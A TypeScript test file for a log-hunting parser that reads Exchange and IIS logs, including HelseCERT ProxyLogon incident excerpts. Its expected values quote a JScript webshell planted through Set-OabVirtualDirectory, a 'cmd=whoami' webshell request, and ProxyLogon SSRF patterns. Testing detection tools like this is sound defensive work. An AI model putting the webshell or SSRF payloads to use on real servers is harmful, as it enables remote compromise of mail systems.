/**
 * Every log file of the third-party test corpus (read in place through test/support/corpus.ts) is recognised from its content and parsed
 * with the expected record counts and values; the expectations of the HelseCERT incident logs that depend on parsing are checked here.
 */
import { createReadStream, readdirSync } from 'node:fs';
import { pathToFileURL } from 'node:url';
import { expect, it } from 'vitest';
import { corpusPath, describeCorpus as describe } from '../../../test/support/corpus.js';
import type { LogRecord, LogType } from '../types.js';
import { HTTPPROXY_FIELDS } from './fields.js';
import { type ParseLogResult, parseLog } from './log.js';

const corpus = (dir: string) => pathToFileURL(`${corpusPath(dir)}/`);

async function parse(dir: string, file: string): Promise<ParseLogResult & { records: LogRecord[] }> {
  const records: LogRecord[] = [];
  const result = await parseLog(createReadStream(new URL(file, corpus(dir))), `${dir}/${file}`, (r) =>
    records.push(r),
  );
  return { ...result, records };
}

interface Expect {
  type: LogType | undefined;
  records?: number;
  malformed?: number;
}

const BENIGN: Record<string, Expect> = {
  'httpproxy-autodiscover.log': { type: 'exchange-httpproxy', records: 1 },
  'httpproxy-eas.log': { type: 'exchange-httpproxy', records: 1 },
  'httpproxy-ecp.log': { type: 'exchange-httpproxy', records: 1 },
  'httpproxy-ews.log': { type: 'exchange-httpproxy', records: 1 },
  'httpproxy-mapi.log': { type: 'exchange-httpproxy', records: 3 },
  'httpproxy-owa.log': { type: 'exchange-httpproxy', records: 1 },
  'httpproxy-powershell.log': { type: 'exchange-httpproxy', records: 2 },
  'httpproxy-rpchttp.log': { type: 'exchange-httpproxy', records: 1 },
  'ecp-activity.log': { type: 'exchange-ecp-activity', records: 2 },
  'ecp-server.log': { type: 'exchange-ecp-server', records: 1 },
  'iis-w3c-webshell-access-example.log': { type: 'iis-w3c', records: 1 },
  // Exchange logs of types the hunt does not read: recognised as "not a log Bulwark reads".
  'agentlog.log': { type: undefined },
  'cmdletinfra-rps-cmdlet.log': { type: undefined },
  'cosmosqueue-audit.log': { type: undefined },
  'ews.log': { type: undefined },
  'messagetracking.log': { type: undefined },
  'smtpreceive.log': { type: undefined },
};

const HELSECERT: Record<string, Expect> = {
  'test-proxylogon-cve-2021-26855-hits.csv': { type: 'exchange-httpproxy', records: 11, malformed: 0 },
  'ecp-server-log-excerpt-reduced.txt': { type: 'exchange-ecp-server', records: 17, malformed: 3 },
  'iis-w3svc1-webshell-access-excerpt.log': { type: 'iis-w3c', records: 8, malformed: 2 },
  'httpproxy-owa-ip1-excerpt-reduced.csv': { type: 'exchange-httpproxy', records: 5, malformed: 0 },
  'httpproxy-owa-ip2-excerpt-reduced.csv': { type: 'exchange-httpproxy', records: 69, malformed: 1 },
};

describe('corpus: every file is recognised and parsed', () => {
  const cases: [string, string, Expect][] = [
    ...Object.entries(BENIGN).map(([f, e]) => ['exchange-logs-benign', f, e] as [string, string, Expect]),
    ...Object.entries(HELSECERT).map(
      ([f, e]) => ['helsecert-2021-march-exchange', f, e] as [string, string, Expect],
    ),
    [
      'signature-base-pr125-httpproxy-probe',
      'httpproxy-owa-x-js-scanner-probe.log',
      { type: 'exchange-httpproxy', records: 1, malformed: 0 },
    ],
  ];

  it('covers every file in the three folders', () => {
    for (const dir of [
      'exchange-logs-benign',
      'helsecert-2021-march-exchange',
      'signature-base-pr125-httpproxy-probe',
    ]) {
      const files = readdirSync(corpus(dir)).filter((f) => f !== 'SOURCE.md');
      for (const f of files)
        expect(
          cases.some(([d, c]) => d === dir && c === f),
          `${dir}/${f}`,
        ).toBe(true);
    }
  });

  it.each(cases)('%s/%s', async (dir, file, want) => {
    const r = await parse(dir, file);
    expect(r.detected?.type).toBe(want.type);
    expect(r.stats.truncated).toBe(0);
    if (want.type === undefined) {
      expect(r.records).toHaveLength(0);
      return;
    }
    expect(r.records).toHaveLength(want.records!);
    expect(r.stats.records).toBe(want.records);
    expect(r.stats.malformed).toBe(want.malformed ?? 0);
    for (const rec of r.records) {
      expect(rec.type).toBe(want.type);
      expect(rec.timestamp).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    }
  });
});

describe('corpus: field values', () => {
  it('benign HttpProxy logs: 74 columns from #Fields, build from #Version', async () => {
    for (const f of Object.keys(BENIGN).filter((k) => k.startsWith('httpproxy-'))) {
      const r = await parse('exchange-logs-benign', f);
      expect(r.detected?.columns).toEqual(HTTPPROXY_FIELDS);
      expect(r.stats.build).toBe('15.1.2375.7');
      for (const rec of r.records) expect(Object.keys(rec.fields)).toHaveLength(74);
    }
    const owa = await parse('exchange-logs-benign', 'httpproxy-owa.log');
    expect(owa.records[0]!.fields).toMatchObject({
      UrlStem: '/owa/admin.cfg',
      HttpStatus: '302',
      Method: 'GET',
      AuthenticatedUser: '',
      ClientIpAddress: '95.5.6.7',
      Protocol: 'Owa',
    });
    expect(owa.records[0]!.fields.GenericInfo).toMatch(/^BeginRequest=2023-01-06T02:20:32.840Z;/);
    const mapi = await parse('exchange-logs-benign', 'httpproxy-mapi.log');
    expect(mapi.records.map((r) => r.fields.ClientRequestId?.split(';')[1])).toEqual([
      'RT:Connect',
      'RT:Execute',
      'RT:Disconnect',
    ]);
  });

  it('ECP logs: EventData kept whole and S: items exposed', async () => {
    const server = await parse('exchange-logs-benign', 'ecp-server.log');
    const f = server.records[0]!.fields;
    expect(f).toMatchObject({
      ServerName: 'SERVER-HOSTNAME',
      EventId: 'ECP.Request',
      'EventData.CMD': 'Get-InboxRule',
      'EventData.BLD': '15.1.2375.7',
    });
    expect(f.EventData).toMatch(/^S:TIME=13;S:SID=.*S:ACID=$/);
    expect(server.stats).toMatchObject({ host: 'SERVER-HOSTNAME', build: '15.1.2375.7' });
    const activity = await parse('exchange-logs-benign', 'ecp-activity.log');
    expect(activity.records[1]!.fields['EventData.URL']).toBe('https://localhost:444/ecp/logoff.aspx');
  });

  it('IIS example with raw spaces in the user agent: surplus merged into cs(User-Agent)', async () => {
    const r = await parse('exchange-logs-benign', 'iis-w3c-webshell-access-example.log');
    expect(r.recovered).toBe(1);
    expect(r.records[0]).toMatchObject({
      line: 3,
      timestamp: '2023-12-25T11:54:21.000Z',
      fields: {
        'cs-method': 'GET',
        'cs-uri-stem': '/owa/auth/aKdMadOeT.aspx',
        'cs-uri-query': 'cmd=whoami',
        'cs-username': '',
        'c-ip': '1.2.3.4',
        'cs(User-Agent)':
          'Mozilla/5.0+Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/522.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/512.34',
        'cs(Referer)': '',
        'sc-status': '200',
        'time-taken': '142',
      },
    });
  });

  it('probe row: 68 values of an Exchange 2013 row mapped onto the first 68 names', async () => {
    const r = await parse('signature-base-pr125-httpproxy-probe', 'httpproxy-owa-x-js-scanner-probe.log');
    expect(r.detected).toMatchObject({ type: 'exchange-httpproxy', headerless: true, headerLines: 0 });
    const rec = r.records[0]!;
    expect(Object.keys(rec.fields)).toEqual(HTTPPROXY_FIELDS.slice(0, 68));
    expect(rec.fields).toMatchObject({
      AnchorMailbox: 'ServerInfo~localhost/ecp/default.flt?',
      UrlStem: '/owa/auth/x.js',
      HttpStatus: '500',
      AuthenticatedUser: '',
      TargetServer: 'localhost',
      RoutingType: 'CrossRegion',
      RoutingHint: 'X-AnonResource-Backend-Cookie',
    });
    expect(rec.fields.GenericInfo).toMatch(/^BeginRequest=2021-03-07T15:04:04.167Z;/);
    expect(r.stats.build).toBe('15.0.1395.0');
  });

  it('Test-ProxyLogon CSV: 11 records with AnchorMailbox; §9 counts', async () => {
    const r = await parse('helsecert-2021-march-exchange', 'test-proxylogon-cve-2021-26855-hits.csv');
    expect(r.detected).toMatchObject({ type: 'exchange-httpproxy', headerLines: 2 });
    expect(r.detected?.columns).toEqual([
      'DateTime',
      'RequestId',
      'ClientIpAddress',
      'UrlHost',
      'UrlStem',
      'RoutingHint',
      'UserAgent',
      'AnchorMailbox',
      'HttpStatus',
    ]);
    const anchors = r.records.map((x) => x.fields.AnchorMailbox!);
    expect(anchors.every((a) => a.startsWith('ServerInfo~a]@servernavn.xxx.local:444/'))).toBe(true);
    const like = (s: string, pattern: RegExp) => pattern.test(s);
    const current = r.records.filter(
      (x) =>
        like(x.fields.AnchorMailbox!, /^ServerInfo~.*\/.*$/i) &&
        !like(x.fields.AnchorMailbox!, /^ServerInfo~.*\/autodiscover/i) &&
        !like(x.fields.AnchorMailbox!, /^ServerInfo~localhost.*\//i),
    );
    expect(current).toHaveLength(9);
    const reset = r.records.filter(
      (x) =>
        /^ServerInfo~.*\/.*Reset.*VirtualDirectory#$/i.test(x.fields.AnchorMailbox!) &&
        x.fields.HttpStatus === '200',
    );
    expect(reset.map((x) => x.timestamp)).toEqual(['2021-03-03T06:59:20.359Z']);
    expect(r.records.filter((x) => x.fields.HttpStatus === '241').map((x) => x.fields.UrlStem)).toEqual([
      '/ecp/y.js',
      '/ecp/y.js',
    ]);
    expect(r.records[0]).toMatchObject({
      line: 3,
      fields: { ClientIpAddress: '130.255.189.21', UserAgent: 'ExchangeServicesClient/0.0.0.0' },
    });
  });

  it('reduced HttpProxy excerpt ip2: 69 rows, 10 distinct paths, 200 only for RedirSuiteServerProxy.aspx', async () => {
    const r = await parse('helsecert-2021-march-exchange', 'httpproxy-owa-ip2-excerpt-reduced.csv');
    expect(r.detected).toMatchObject({ reduced: true, headerLines: 1 });
    expect(r.detected?.columns).toEqual([
      'DateTime',
      'UrlHost',
      'UrlStem',
      'UserAgent',
      'HttpStatus',
      'Method',
    ]);
    expect(r.detected?.sourceColumns).toEqual([
      'timestamp',
      'hostname',
      'urlpath',
      'useragent',
      'httpstatuskode',
      'http-metode',
    ]);
    expect(r.records).toHaveLength(69);
    expect(new Set(r.records.map((x) => x.fields.UrlStem)).size).toBe(10);
    const ok = r.records.filter((x) => x.fields.HttpStatus === '200');
    expect(new Set(ok.map((x) => x.fields.UrlStem))).toEqual(
      new Set(['/owa/auth/RedirSuiteServerProxy.aspx']),
    );
    expect(new Set(ok.map((x) => x.timestamp!.slice(0, 10)))).toEqual(new Set(['2021-03-06']));
    expect(new Set(r.records.map((x) => x.fields.HttpStatus))).toEqual(new Set(['200', '302']));
    expect(r.stats.samples).toEqual([{ line: 35, reason: 'expected 6 values, got 1', text: '-----' }]);
  });

  it('reduced HttpProxy excerpt ip1: the extra value becomes ClientIpAddress', async () => {
    const r = await parse('helsecert-2021-march-exchange', 'httpproxy-owa-ip1-excerpt-reduced.csv');
    expect(r.recovered).toBe(5);
    expect(r.records[0]!.fields).toEqual({
      DateTime: '2021-03-05T03:06:27.696Z',
      UrlHost: 'serverip',
      UrlStem: '/owa/auth/RedirSuiteServerProxy.aspx',
      UserAgent:
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/65.0.2345 Safari/537.36',
      HttpStatus: '200',
      Method: 'GET',
      ClientIpAddress: '139.162.202.236',
    });
    expect(r.records.map((x) => x.fields.HttpStatus)).toEqual(['200', '200', '302', '302', '302']);
  });

  it('reduced ECP excerpt: Set-OabVirtualDirectory lines are records with EventData; annotations malformed', async () => {
    const r = await parse('helsecert-2021-march-exchange', 'ecp-server-log-excerpt-reduced.txt');
    expect(r.detected).toMatchObject({
      format: 'ecp-reduced',
      reduced: true,
      headerLines: 2,
      columns: ['TimeStamp', 'EventData'],
    });
    const set = r.records.filter((x) => /Set-.+VirtualDirectory/.test(x.fields.EventData!));
    expect(set.map((x) => x.line)).toEqual([7, 11, 19, 22]);
    const volexity = r.records.filter((x) => x.raw.includes("S:CMD=Set-OabVirtualDirectory.ExternalUrl='"));
    expect(volexity.map((x) => x.line)).toEqual([7, 19]);
    expect(volexity[0]!.fields['EventData.CMD']).toBe(
      'Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>\'.Identity=\'982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3\'',
    );
    const reset = r.records.find((x) => x.line === 11)!;
    expect(reset.fields['EventData.CMD']).toBe(
      "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'",
    );
    expect(reset.fields['EventData.EX']).toMatch(
      /^Microsoft\.Exchange\.Data\.Directory\.ADNoSuchObjectException:.*CN=OAB \(Default Web Site\),CN=HTTP,/,
    );
    expect(r.stats.samples.map((s) => s.line)).toEqual([3, 4, 16]);
  });

  it('IIS excerpt without header: default field list, separators malformed', async () => {
    const r = await parse('helsecert-2021-march-exchange', 'iis-w3svc1-webshell-access-excerpt.log');
    expect(r.detected).toMatchObject({ type: 'iis-w3c', headerless: true, headerLines: 0 });
    expect(r.records.every((x) => x.fields['cs-uri-stem'] === '/owa/auth/RedirSuiteServerProxy.aspx')).toBe(
      true,
    );
    expect(r.records.every((x) => x.fields['cs-method'] === 'GET')).toBe(true);
    expect(r.records[0]!.fields).toMatchObject({
      's-ip': 'xxx',
      'c-ip': '139.162.202.236',
      'cs-uri-query': '&CorrelationID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=;',
      'cs(User-Agent)':
        'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36',
      'sc-status': '200',
    });
    expect(r.stats.samples.map((s) => [s.line, s.text])).toEqual([
      [3, '-----'],
      [7, '-----'],
    ]);
    expect(r.stats).toMatchObject({ first: '2021-03-05T03:06:27.000Z', last: '2021-03-08T20:37:28.000Z' });
  });
});
